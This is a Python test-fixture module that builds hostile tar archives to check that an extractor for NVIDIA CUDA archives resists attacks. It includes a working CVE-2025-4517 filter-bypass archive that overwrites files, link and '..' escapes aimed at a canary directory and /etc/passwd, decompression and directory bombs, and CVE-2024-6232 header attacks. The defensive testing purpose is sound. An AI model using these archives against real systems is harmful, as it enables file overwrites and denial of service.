"""Hostile tar archives: what a compromised or malicious redist mirror can serve in place of
NVIDIA's component archives. Every member sits under the archive's top dir (`TOP`), as NVIDIA's do,
unless the case is about names that leave it; the attacks aim at a canary directory beside the
tree (by relative and by absolute path), so "nothing was written outside" is one listing.

- `cve_2025_4517()`: the chain of links longer than PATH_MAX that fools tarfile's `data` filter
  before Python 3.11.13 / 3.12.11 / 3.13.4, then a hard link through it and a file over the link:
  it overwrites the target file on those Pythons.
- `corpus(seed, count, canary)`: seeded random cases: symlink chains, links out (relative,
  absolute, through `..` and other links), absolute and `..` names, hard links, devices, FIFOs,
  long and deep names, duplicate members, a link then a file through it, links that only leave
  once a later link exists, oversized headers and declared sizes, many members.
- `zeros_bomb(mib)`: one member of MiB zeros, a few hundred KiB compressed.
"""

import io
import lzma
import random
import tarfile

TOP = "cuda_nvcc-linux-x86_64-77.1.0-archive"
NAMES = ("a", "b", "c", "lib", "bin", "include", "x", "l0", "l1", "l2")


def info(kind, name, content=b"", mode=0o644):
    """(TarInfo, data) of one member; kind: file, dir, sym, hard, fifo, chr, blk. `content`: a
    file's bytes, or a link's target."""
    target, data = (content, b"") if kind in ("sym", "hard") else ("", content)
    member = tarfile.TarInfo(name)
    member.mode = mode
    member.mtime = 1_700_000_000
    member.type = {"file": tarfile.REGTYPE, "dir": tarfile.DIRTYPE, "sym": tarfile.SYMTYPE,
                   "hard": tarfile.LNKTYPE, "fifo": tarfile.FIFOTYPE, "chr": tarfile.CHRTYPE,
                   "blk": tarfile.BLKTYPE}[kind]
    if kind in ("sym", "hard"):
        member.linkname = target
    if kind in ("chr", "blk"):
        member.devmajor, member.devminor = 1, 3
    if kind == "dir":
        member.mode = 0o755
    member.size = len(data) if kind == "file" else 0
    return member, data


def tar_bytes(members, compress="xz", raw_tail=b""):
    """The archive holding `members` ((TarInfo, data) pairs), PAX format (long names, as GNU tar
    writes them); `raw_tail` is appended before compression (hand-made headers)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for member, data in members:
            archive.addfile(member, io.BytesIO(data) if member.isreg() else None)
        if raw_tail:
            archive.fileobj.write(raw_tail)
            archive.offset += len(raw_tail)
    raw = buffer.getvalue()
    if compress == "xz":
        return lzma.compress(raw, preset=0)
    if compress == "gz":
        import gzip

        return gzip.compress(raw, 1)
    return raw


def declared_huge(name, size=50 << 30):
    """A file header claiming `size` bytes, followed by a little data and the end of the archive."""
    member = tarfile.TarInfo(name)
    member.size = size
    return member.tobuf(tarfile.PAX_FORMAT) + b"\0" * 4096


def cve_2025_4517(dest_len, climb, target, content=b"pwned\n", top=TOP, sub="bin"):
    """The CVE-2025-4517 archive (CPython's own test_realpath_limit_attack, put under `top/sub/`)
    for a tree at an absolute path of `dest_len` characters: `escape` is a link that the
    filter's realpath() believes inside but that leads `climb` levels above `top/sub/`; a hard
    link to `escape/target`, then a file of the same name, overwrites `target`."""
    steps = "abcdefghijklmnop"
    component = "d" * ((4096 - dest_len - len(sub) - 2) // (len(steps) + 1))
    base, path = "%s/%s" % (top, sub), ""
    members = []
    for step in steps:
        members.append(info("dir", "/".join(filter(None, (base, path, component)))))
        members.append(info("sym", "/".join(filter(None, (base, path, step))), component))
        path = "/".join(filter(None, (path, component)))
    linkpath = "/".join(steps) + "/" + "l" * 254
    members.append(info("sym", "%s/%s" % (base, linkpath), "/".join([".."] * len(steps))))
    members.append(info("sym", base + "/escape", linkpath + "/.." * climb))
    members.append(info("hard", base + "/flaglink", "%s/escape/%s" % (base, target)))
    members.append(info("file", base + "/flaglink", content))
    members.append(info("file", base + "/escape/newfile", b"new\n"))
    return members


def zeros_bomb(mib, compress="xz"):
    """One member of `mib` MiB of zeros under TOP/lib/ (compresses about a thousandfold)."""
    member = tarfile.TarInfo(TOP + "/lib/libzeros.so")
    member.size = mib << 20
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        archive.addfile(info("dir", TOP)[0])
        archive.addfile(member, _Zeros(member.size))
    raw = buffer.getvalue()
    return lzma.compress(raw, preset=0) if compress == "xz" else __import__("gzip").compress(raw, 1)


class _Zeros(io.RawIOBase):
    def __init__(self, size):
        self.left = size

    def readable(self):
        return True

    def readinto(self, buffer):
        count = min(len(buffer), self.left)
        buffer[:count] = bytes(count)
        self.left -= count
        return count


def _target(rng, canary, depth, climb):
    """A link target: inside, out by `..` (to the canary: `climb` levels from the tree to the
    canary's parent), out by an absolute path, or through other links."""
    choice = rng.randrange(9)
    if choice == 0:
        return "../" * (depth + climb + rng.randrange(-1, 2)) + "canary/" + rng.choice(("x", "secret", ""))
    if choice == 1:
        return canary + rng.choice(("", "/x", "/secret"))
    if choice == 2:
        return "/".join(rng.choice(NAMES + ("..", "..", ".")) for _ in range(rng.randrange(1, 7)))
    if choice == 3:
        return rng.choice(NAMES)
    if choice == 4:
        return "/".join([".."] * rng.randrange(1, 4) + [rng.choice(NAMES)])
    if choice == 5:
        return rng.choice(("", ".", "..", "/", "//", "./", "a//..//..")) + rng.choice(("", "/canary"))
    if choice == 6:
        return "/".join(rng.choice(NAMES) for _ in range(rng.randrange(1, 4))) + "/.." * rng.randrange(1, 6)
    if choice == 7:
        return "x" * rng.choice((255, 1100, 5000))
    return "/etc/passwd"


def _name(rng, canary):
    """A member name: mostly under TOP; sometimes absolute, with `..`, or outside TOP."""
    choice = rng.randrange(20)
    if choice == 0:
        return canary + "/pwned"
    if choice == 1:
        return TOP + "/" + "../" * rng.randrange(1, 5) + "canary/pwned"
    if choice == 2:
        return rng.choice(("./", "/", "", "other-archive/", TOP + "//", TOP + "/./")) + rng.choice(NAMES)
    if choice == 3:
        return TOP + "/" + "/".join([rng.choice(("d", "dd"))] * rng.choice((70, 200)))
    if choice == 4:
        return TOP + "/" + "n" * rng.choice((256, 300))
    depth = rng.randrange(1, 4)
    return TOP + "/" + "/".join(rng.choice(NAMES) for _ in range(depth))


def _tame_target(rng, depth):
    """A link target that may well stay inside: a sibling, or a climb within the member's depth
    (where other links of the case can still carry it out)."""
    ups = rng.randrange(0, depth + 1)
    return "/".join([".."] * ups + [rng.choice(NAMES) for _ in range(rng.randrange(1, 3))])


def random_case(rng, canary, climb):
    """One random archive as a list of (TarInfo, data), plus raw bytes after them. A third of the
    cases are tame (names under TOP, inside-looking links, no devices) so that many unpack, and
    the tree they leave is checked too."""
    tame = rng.random() < 0.35
    members = [info("dir", TOP)] if tame or rng.random() < 0.9 else []
    raw_tail = b""
    kinds = ("file", "file", "dir", "sym", "sym", "hard") if tame else (
        "file", "file", "dir", "sym", "sym", "sym", "hard", "hard", "fifo", "chr", "blk")
    for _ in range(rng.randrange(2, 14)):
        name = TOP + "/" + "/".join(rng.choice(NAMES) for _ in range(rng.randrange(1, 4))) if tame else \
            _name(rng, canary)
        depth = name.count("/") - TOP.count("/") - 1
        kind = rng.choice(kinds)
        if kind == "sym":
            target = _tame_target(rng, depth) if tame and rng.random() < 0.9 else _target(rng, canary, depth, climb)
            members.append(info("sym", name, target))
        elif kind == "hard":
            outside = [canary + "/secret", TOP + "/" + "../" * (climb + 1) + "canary/secret"]
            target = rng.choice([m.name for m, _ in members if m.name] + outside)
            members.append(info("hard", name, target))
        elif kind == "file":
            mode = rng.choice((0o644, 0o755, 0o4755, 0o2755, 0o7777, 0o000))
            members.append(info("file", name, b"pwned %d\n" % rng.randrange(1000), mode))
        else:
            members.append(info(kind, name))
        if rng.random() < (0.05 if tame else 0.15) and members[-1][0].issym():  # write through the link
            members.append(info("file", members[-1][0].name + "/pwned", b"through\n"))
    if not tame and rng.random() < 0.05:
        raw_tail = declared_huge(TOP + "/lib/huge.so")
    if not tame and rng.random() < 0.05:
        big, _ = info("file", TOP + "/include/pax.h")
        big.pax_headers = {"comment": "c" * (2 << 20)}
        members.append((big, b""))
    return members, raw_tail


def late_escape():
    """Two links each inside on its own: `bin/p -> q/z/../../..` (q is no link yet), then
    `bin/q -> ..`; once q exists (and `z/`), p climbs out of the tree. Only a check of all links
    at the end sees it."""
    return [info("dir", TOP), info("dir", TOP + "/bin"), info("sym", TOP + "/bin/p", "q/z/../../.."),
            info("sym", TOP + "/bin/q", ".."), info("dir", TOP + "/z")]


def corpus(seed, count, canary, climb=6):
    """`count` hostile archives as (label, archive bytes), aimed at `canary` (an absolute path)
    and at a dir named canary `climb` levels above the tree they are unpacked to."""
    rng = random.Random(seed)
    pax = info("file", TOP + "/include/pax.h")
    pax[0].pax_headers = {"comment": "c" * (2 << 20)}
    cases = [("late-escape", tar_bytes(late_escape())),
             ("declared-50GiB", tar_bytes([info("dir", TOP)], raw_tail=declared_huge(TOP + "/lib/huge.so"))),
             ("pax-header-2MiB", tar_bytes([info("dir", TOP), pax])),
             ("cve-shape-short-names", tar_bytes([info("dir", TOP)] + cve_2025_4517(4096 - 17 * 6, climb + 1,
                                                                                     "canary/x"))),
             ("zeros-160MiB-gz", zeros_bomb(160, "gz")),
             ("cve-2025-4517", tar_bytes([info("dir", TOP)] + cve_2025_4517(120, climb + 1, "canary/secret")))]
    for index in range(count - len(cases)):
        members, tail = random_case(rng, canary, climb)
        compress = rng.choice(("xz", "xz", "gz", "tar"))
        cases.append(("random-%03d" % index, tar_bytes(members, compress, tail)))
    return cases


# --- headers that tarfile's own parser chokes on ----------------------------------------------

def raw_member(name, kind, payload):
    """One hand-made header block (ustar) and its padded payload: a pax or GNU long-name header."""
    member = tarfile.TarInfo(name)
    member.type, member.size = kind, len(payload)
    return member.tobuf(format=tarfile.USTAR_FORMAT) + payload + b"\0" * (-len(payload) % 512)


def pax_record(keyword, value):
    """One pax record, "LEN KEY=VALUE\\n", LEN counting itself."""
    body = b" %s=%s\n" % (keyword, value)
    length = len(body) + 1
    while len(str(length)) + len(body) != length:
        length += 1
    return b"%d%s" % (length, body)


def hostile_header(case):
    """The raw tar (uncompressed) of one file under TOP preceded by the hostile header `case`:
    - digits-60k / digits-80k: a pax header of digits only (CVE-2024-6232: tarfile's pax search
      is quadratic before Python 3.11.10; 60,000 digits fit in 64 KiB and still take seconds);
    - keyword-scan: records without '=' and one '=' at the end (the record pattern scans to it
      from every record: quadratic too);
    - digit-run-value: one well-formed record whose value is a 60,000-digit run;
    - pax-path-8MiB: a well-formed pax path of 8 MiB (read whole into memory, kept as the name);
    - gnu-longname-5000: a GNU long name past PATH_MAX;
    - pax-chain-2000: 2,000 pax headers before one member (tarfile recurses once per header);
    - global-headers: 40 global headers of 60 KiB each (tarfile keeps them all)."""
    file_member = tarfile.TarInfo(TOP + "/bin/x")
    tail = file_member.tobuf(format=tarfile.USTAR_FORMAT) + b"\0" * 1024
    x, g = tarfile.XHDTYPE, tarfile.XGLTYPE
    headers = {
        "digits-60k": lambda: raw_member(TOP + "/PaxHeader", x, b"1" * 60_000),
        "digits-80k": lambda: raw_member(TOP + "/PaxHeader", x, b"1" * 80_000),
        "keyword-scan": lambda: raw_member(TOP + "/PaxHeader", x, b"10 aaaaaa\n" * 6000 + b"="),
        "digit-run-value": lambda: raw_member(TOP + "/PaxHeader", x, pax_record(b"comment", b"7" * 60_000)),
        "pax-path-8MiB": lambda: raw_member(TOP + "/PaxHeader", x, pax_record(b"path", b"p" * (8 << 20))),
        "gnu-longname-5000": lambda: raw_member("././@LongLink", tarfile.GNUTYPE_LONGNAME,
                                                (TOP + "/" + "n" * 5000).encode() + b"\0"),
        "pax-chain-2000": lambda: raw_member(TOP + "/PaxHeader", x, pax_record(b"comment", b"c")) * 2000,
        "global-headers": lambda: b"".join(raw_member("pax_global_header", g, pax_record(b"k%d" % n, b"v" * 60_000))
                                           for n in range(40)),
    }
    return headers[case]() + tail


HOSTILE_HEADERS = ("digits-60k", "digits-80k", "keyword-scan", "digit-run-value", "pax-path-8MiB",
                   "gnu-longname-5000", "pax-chain-2000", "global-headers")


def dir_bomb(files, depth):
    """`files` empty files each `depth` levels down a path of its own and no dir members: tar
    makes every parent itself (a few KB of xz makes hundreds of thousands of dirs)."""
    members = []
    for number in range(files):
        path = "/".join([TOP, "%x" % number] + ["d"] * (depth - 2) + ["f"])
        members.append(info("file", path))
    return tar_bytes(members)
